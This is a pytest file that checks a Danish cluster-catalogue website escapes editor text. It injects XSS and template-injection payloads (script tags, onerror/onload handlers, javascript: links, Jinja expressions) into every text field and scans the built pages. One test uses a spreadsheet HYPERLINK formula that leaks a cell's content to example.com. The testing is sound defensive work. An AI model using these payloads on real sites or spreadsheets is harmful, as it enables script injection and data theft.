"""Catalogue text is data: whatever an editor writes into it comes out as text, everywhere.

A copy of data/ gets the payloads below in EVERY free-text field of every record (names,
aliases, descriptions, notes, titles, summaries, labels, printed names, companies, partners …:
every field whose type is model.Name or model.Text, found from the model, so a new text field
is covered the day it is added). Ids, URLs and dates stay valid. The site is built from it
once with `make build`, and every HTML file is scanned: no payload may turn into an element,
an event handler, a javascript: link or an evaluated template, and the payload text must be
on the pages as text. The exports must carry the text exactly as written.

Each payload value ends in " #N": a finding names the data field it came from.
"""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import json
import os
import re
import shutil
import subprocess
import types
import typing
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from markupsafe import escape
from pydantic import AfterValidator

from conftest import DATA, DATA_FILES, REPO
from sitebuild import make_build
from klyngekatalog import model
from klyngekatalog.catalogue import Catalogue, load_catalogue
from klyngekatalog.exports import clusters_csv
from klyngekatalog.yamlsource import load_yaml

pytestmark = pytest.mark.build

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }}",
    "{% if true %}X{% endif %}",
    "{# c #}",
    "[klik](javascript:alert(1))",
    '"><svg onload=alert(1)>',
)
PAYLOAD = " ".join(PAYLOADS)
MODELS: dict[str, type[model.Record]] = model.DATA_FILES


# --- which fields are free text (from the model) -------------------------------------------------


def _text_kind(annotation: object, metadata: typing.Iterable[object] = ()) -> object:
    """"text" for a Name/Text field, ("many", kind) for a tuple of them, ("record", Model) for
    a nested record; None for anything else (ids, URLs, dates, numbers, kinds)."""
    if any(isinstance(m, AfterValidator) and m.func is model._check_text for m in metadata):
        return "text"
    origin = typing.get_origin(annotation)
    if origin is typing.Annotated:
        inner, *meta = typing.get_args(annotation)
        return _text_kind(inner, meta)
    if origin in (typing.Union, types.UnionType):
        kinds = {_text_kind(arg) for arg in typing.get_args(annotation)} - {None}
        assert len(kinds) <= 1, annotation
        return kinds.pop() if kinds else None
    if origin is tuple:
        inner = _text_kind(typing.get_args(annotation)[0])
        return ("many", inner) if inner else None
    if isinstance(annotation, type) and issubclass(annotation, model.Record):
        return ("record", annotation)
    return None


def text_fields(record: type[model.Record]) -> dict[str, object]:
    found = {}
    for name, info in record.model_fields.items():
        kind = _text_kind(info.annotation, info.metadata)
        if kind is not None:
            found[name] = kind
    return found


def all_text_fields() -> set[str]:
    """"Model.field" of every free-text field reachable from the data files' models."""
    result: set[str] = set()
    todo = list(MODELS.values())
    while todo:
        record = todo.pop()
        for name, kind in text_fields(record).items():
            while isinstance(kind, tuple) and kind[0] == "many":
                kind = kind[1]
            if kind == "text":
                result.add(f"{record.__name__}.{name}")
            else:
                todo.append(kind[1])
    return result


class Injector:
    """Replaces every free-text value with the payload and a number; remembers each number's field."""

    def __init__(self) -> None:
        self.fields: dict[int, str] = {}

    def payload(self, field: str) -> str:
        number = len(self.fields) + 1
        self.fields[number] = field
        return f"{PAYLOAD} #{number}"

    def inject(self, data: dict, record: type[model.Record]) -> None:
        for name, kind in text_fields(record).items():
            value = data.get(name)
            if value is None:
                continue
            field = f"{record.__name__}.{name}"
            if kind == "text":
                data[name] = self.payload(field)
            elif kind == ("many", "text"):
                data[name] = [self.payload(field) for _ in value]
            elif kind[0] == "many":
                for item in value:
                    self.inject(item, kind[1][1])
            else:
                self.inject(value, kind[1])


# --- the build ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class PayloadBuild:
    data: Path
    site: Path
    fields: dict[int, str]  # payload number → "Model.field"
    result: subprocess.CompletedProcess


@pytest.fixture(scope="module")
def build(tmp_path_factory: pytest.TempPathFactory) -> PayloadBuild:
    base = tmp_path_factory.mktemp("output-safety")
    data = base / "data"
    shutil.copytree(DATA, data)
    injector = Injector()
    for name in DATA_FILES:
        content = load_yaml(data / name).data
        injector.inject(content, MODELS[name])
        (data / name).write_text(yaml.safe_dump(content, allow_unicode=True, sort_keys=False, width=1000), encoding="utf-8")
    result = make_build(data / "clusters.yaml", base / "site")
    if result.returncode != 0:
        pytest.fail(f"make build failed:\n{result.stdout}\n{result.stderr}")
    return PayloadBuild(data, base / "site", injector.fields, result)


@pytest.fixture(scope="module")
def catalogue(build: PayloadBuild) -> Catalogue:
    """The payload catalogue, as the build loaded it."""
    return load_catalogue(build.data / "clusters.yaml")


@pytest.fixture(scope="module")
def pages(build: PayloadBuild) -> dict[str, str]:
    """Every HTML file of the site (path in the site → its text), read once."""
    found = {path.relative_to(build.site).as_posix(): path.read_text("utf-8") for path in sorted(build.site.rglob("*.html"))}
    assert len(found) > 100
    return found


@pytest.fixture(scope="module")
def page_texts(pages: dict[str, str]) -> dict[str, str]:
    """The same with entities decoded and in lower case (one template lowercases a level's name on purpose)."""
    return {path: html.unescape(raw).lower() for path, raw in pages.items()}


# --- scanning --------------------------------------------------------------------------------------

_EMPTY = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}


class _Scanner(HTMLParser):
    """Finds markup that a payload would have made executable, with where it stands."""

    def __init__(self, raw: str) -> None:
        super().__init__(convert_charrefs=True)
        self.raw = raw
        self.line_starts = [0] + [m.end() for m in re.finditer("\n", raw)]
        self.open: list[str] = []
        self.findings: list[str] = []
        self.in_script = False

    def here(self) -> str:
        line, column = self.getpos()
        offset = self.line_starts[line - 1] + column
        number = re.search(r" #(\d+)", self.raw[offset : offset + 600])
        element = " > ".join(self.open[-3:]) or "(top)"
        return f"line {line}, in {element}" + (f", payload #{number.group(1)}" if number else "")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        for name, value in values.items():
            if name.startswith("on") and "alert(" in value:
                self.findings.append(f"<{tag} {name}=…> {self.here()}")
            if name in _URL_ATTRIBUTES and re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith("javascript:"):
                self.findings.append(f'<{tag} {name}="{value}"> {self.here()}')
        if tag == "img" and values.get("src") == "x":
            self.findings.append(f"<img src=x> {self.here()}")
        if tag == "svg" and "onload" in values:
            self.findings.append(f"<svg onload> {self.here()}")
        # JSON-LD is data, not script (structured.script_json keeps `<` out of it; test_structured checks it).
        self.in_script = tag == "script" and values.get("type") != "application/ld+json"
        if tag not in _EMPTY:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self.in_script = False
        if tag in self.open:
            while self.open.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        if self.in_script and "alert(" in data:
            self.findings.append(f"<script>{data[:40]}… {self.here()}")


def executable_markup(raw: str) -> list[str]:
    scanner = _Scanner(raw)
    scanner.feed(raw)
    scanner.close()
    return scanner.findings


def test_the_scanner_finds_what_it_looks_for() -> None:
    page = (
        '<p><script>alert(1)</script> #1</p><img src=x onerror=alert(1)> #2<a href=" javascript:alert(1)">k</a>'
        '<svg onload=alert(1)> #3<div onmouseover="alert(2)"></div>'
    )
    assert len(executable_markup(page)) == 7  # the svg twice: an on… attribute, and svg onload
    assert executable_markup(html.escape(page)) == []
    assert "payload #1" in executable_markup(page)[0]


def test_every_text_field_of_the_model_got_payloads(build: PayloadBuild) -> None:
    """The data has at least one value of every free-text field, so each is tested."""
    assert set(build.fields.values()) == all_text_fields()
    assert {"Cluster.name", "Cluster.aliases", "Case.companies", "Headline.label", "PrintedName.name"} <= all_text_fields()


def test_no_executable_markup_on_any_page(build: PayloadBuild, pages: dict[str, str]) -> None:
    findings = []
    for path, raw in pages.items():
        for finding in executable_markup(raw):
            number = re.search(r"payload #(\d+)", finding)
            field = build.fields.get(int(number.group(1)), "?") if number else "?"
            findings.append(f"{path}: {finding} ({field})")
    assert findings == []


@pytest.mark.parametrize(
    "needle",
    ["<script>alert", "<img src=x", "<svg onload", 'href="javascript:', "href='javascript:", "href=javascript:"],
)
def test_no_payload_markup_in_the_raw_html(pages: dict[str, str], needle: str) -> None:
    """The same by plain text search, in case the parser and a browser disagree. (The
    attributes themselves, onerror=…, are in the escaped text too: the parser looks at those.)"""
    hits = [path for path, raw in pages.items() if needle in raw.lower()]
    assert hits == []


def test_no_template_is_evaluated(page_texts: dict[str, str]) -> None:
    """Every payload that starts on a page is there in full, {{ 7*7 }} and {% … %} as written."""
    start, whole = PAYLOADS[0].lower(), PAYLOAD.lower()
    mangled = []
    for path, text in page_texts.items():
        if text.count(start) != text.count(whole) or "onerror=alert(1)> 49" in text:
            mangled.append(path)
    assert mangled == []


@pytest.mark.parametrize(
    "url",
    ["klynger/", "temaer/", "certificeringer/", "cases/", "tal/", "tal/kataloget/", "tal/{table}/", "om/", "klynger/{cluster}/", "temaer/{theme}/", "cases/{case}/"],
)
def test_the_payload_is_shown_as_text(build: PayloadBuild, catalogue: Catalogue, url: str) -> None:
    url = url.format(cluster=catalogue.clusters[0].id, theme=catalogue.themes[0].id, case=catalogue.cases[0].id, table=catalogue.tables[0].id)
    raw = (build.site / url / "index.html").read_text("utf-8")
    assert str(escape(PAYLOAD)) in raw


def test_page_head_and_header_show_the_payload_as_text(build: PayloadBuild, catalogue: Catalogue) -> None:
    """<title>, <meta name="description"> and the header topic come from Material's templates,
    which do not autoescape: the hook must hand them escaped text."""
    cluster = next(c for c in catalogue.clusters if c.description)
    raw = (build.site / "klynger" / cluster.id / "index.html").read_text("utf-8")
    title = re.search(r"<title>(.*?)</title>", raw, re.S).group(1)
    assert html.unescape(title) == f"{cluster.name} - Klyngekataloget"
    description = re.search(r'<meta name="description" content="([^"]*)"', raw).group(1)
    assert html.unescape(description) == cluster.description
    topic = re.search(r'data-md-component="header-topic">\s*<span class="md-ellipsis">(.*?)</span>', raw, re.S).group(1)
    assert html.unescape(topic.strip()) == cluster.name
    assert "<" not in title + description + topic


@pytest.fixture(scope="module")
def shown(page_texts: dict[str, str]) -> set[int]:
    """The payload numbers that are on some page, in full."""
    pattern = re.compile(re.escape(PAYLOAD.lower()) + r" #(\d+)\b")
    return {int(n) for text in page_texts.values() for n in pattern.findall(text)}


# Text the site shows only in part, by design: a short title where a table cites the source
# (the full title is on /om/), and a headline's unit only when it is "%", "procentpoint" or
# "gange" (the label says what is counted: "22 innovationsnetværk i alt i Danmark").
SHOWN_IN_PART = {"Source.short_title", "Headline.unit"}


@pytest.mark.parametrize(
    "field",
    [
        f for f in sorted(all_text_fields() - SHOWN_IN_PART)
    ],
)
def test_every_value_of_a_text_field_is_shown(build: PayloadBuild, shown: set[int], field: str) -> None:
    """Payload text is on the pages literally: every value of every text field, somewhere."""
    missing = sorted(n for n, f in build.fields.items() if f == field and n not in shown)
    assert missing == []


def test_other_text_files_have_no_payload_markup(build: PayloadBuild) -> None:
    """sitemap.xml, CSS, JS: nothing there may carry catalogue text as markup."""
    hits = []
    for path in build.site.rglob("*"):
        if not path.is_file() or path.suffix in (".html", ".json", ".csv", ".gz") or "pagefind" in path.parts:
            continue
        try:
            text = path.read_text("utf-8")
        except UnicodeDecodeError:
            continue  # images, fonts
        if "alert(1)" in text:
            hits.append(str(path.relative_to(build.site)))
    assert hits == []


# --- exports --------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", DATA_FILES)
def test_json_exports_carry_the_text_exactly(build: PayloadBuild, name: str) -> None:
    """JSON is data: the payloads are in it as the editor wrote them, nothing evaluated or cut."""
    record = MODELS[name]
    exported = json.loads((build.site / "data" / name.replace(".yaml", ".json")).read_text("utf-8"))
    assert record.model_validate(exported) == record.model_validate(load_yaml(build.data / name).data)


def test_csv_export_carries_the_text_exactly(build: PayloadBuild, catalogue: Catalogue) -> None:
    rows = list(csv.DictReader(io.StringIO((build.site / "data" / "clusters.csv").read_text("utf-8"))))
    assert [row["navn"] for row in rows] == [c.name for c in catalogue.clusters]
    assert [row["andre_navne"] for row in rows] == [" | ".join(c.aliases) for c in catalogue.clusters]
    assert [row["beskrivelse"] for row in rows] == [c.description or "" for c in catalogue.clusters]
    assert [row["note"] for row in rows] == [c.note or "" for c in catalogue.clusters]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_cannot_start_a_formula(catalogue: Catalogue, start: str) -> None:
    """A spreadsheet runs a cell starting with = + - @ as a formula (CSV injection)."""
    first = catalogue.clusters[0]
    text = f'{start}HYPERLINK("http://example.com/?x="&A1;"klik")'
    changed = first.model_copy(update={"name": text, "aliases": (text,), "note": text})
    catalogue = dataclasses.replace(catalogue, clusters=(changed, *catalogue.clusters[1:]))
    row = next(csv.DictReader(io.StringIO(clusters_csv(catalogue))))
    assert (row["navn"], row["andre_navne"], row["note"]) == ("'" + text,) * 3
